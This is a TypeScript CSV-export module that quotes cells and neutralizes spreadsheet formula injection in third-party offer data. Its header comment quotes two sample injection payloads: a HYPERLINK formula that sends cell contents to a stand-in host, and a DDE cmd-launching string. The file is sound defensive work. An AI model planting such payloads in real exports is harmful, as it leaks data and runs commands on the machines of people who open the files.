// The one CSV writer every export uses (admin offer exports, analyst downloads). Offer titles, merchant names and
// coupon codes come from third parties, so a cell such as `=HYPERLINK("https://evil.example?"&A1)` or
// `@SUM(1+1)*cmd|' /C calc'!A0` must open in a spreadsheet as text, never as a formula (OWASP "CSV Injection"):
// every field is quoted with inner quotes doubled, and a text cell that starts with =, +, -, @, tab or carriage
// return gets a leading single quote. Numbers stay numbers (a negative price is data, not a formula).

/** Characters that make a spreadsheet read a cell as a formula (OWASP), plus their full-width forms. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** Some spreadsheet importers trim leading spaces and line feeds before looking for a formula. */
const FORMULA_AFTER_SPACE = /^[ \n\u00A0]+[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

export type CsvValue = string | number | bigint | boolean | Date | null | undefined | readonly unknown[] | Record<string, unknown>;

export interface CsvOptions {
  /** Joins array values inside one cell (default "|"). */
  listSeparator?: string;
  /** Line ending (default CRLF, as RFC 4180 says). */
  eol?: string;
}

/** One cell as CSV text: always quoted, formulas neutralized. */
export function csvCell(value: unknown, o: CsvOptions = {}): string {
  return `"${cellText(value, o).replace(/"/g, '""')}"`;
}

/** One record as a CSV line, ending with the line terminator. */
export function csvRow(values: readonly unknown[], o: CsvOptions = {}): string {
  return values.map((v) => csvCell(v, o)).join(',') + (o.eol ?? '\r\n');
}

/**
 * A whole export as lines, header first: stream it (`Readable.from(csvLines(...))`) so a million offers never sit
 * in memory as one string. `columns` names each column and how to read it from a record.
 */
export async function* csvLines<T>(
  columns: ReadonlyArray<{ header: string; value: (row: T) => unknown }>,
  rows: Iterable<T> | AsyncIterable<T>,
  o: CsvOptions = {},
): AsyncGenerator<string> {
  yield csvRow(columns.map((c) => c.header), o);
  for await (const row of rows) yield csvRow(columns.map((c) => c.value(row)), o);
}

function cellText(value: unknown, o: CsvOptions): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (typeof value === 'bigint' || typeof value === 'boolean') return String(value);
  if (value instanceof Date) return Number.isNaN(value.getTime()) ? '' : value.toISOString();
  if (Array.isArray(value)) return neutralize(value.map((v) => (v === null || v === undefined ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v))).join(o.listSeparator ?? '|'));
  if (typeof value === 'object') return neutralize(JSON.stringify(value));
  return neutralize(String(value));
}

/** Text a spreadsheet would evaluate gets a leading single quote, which makes it a literal. */
export function neutralize(text: string): string {
  return FORMULA_START.test(text) || FORMULA_AFTER_SPACE.test(text) ? `'${text}` : text;
}
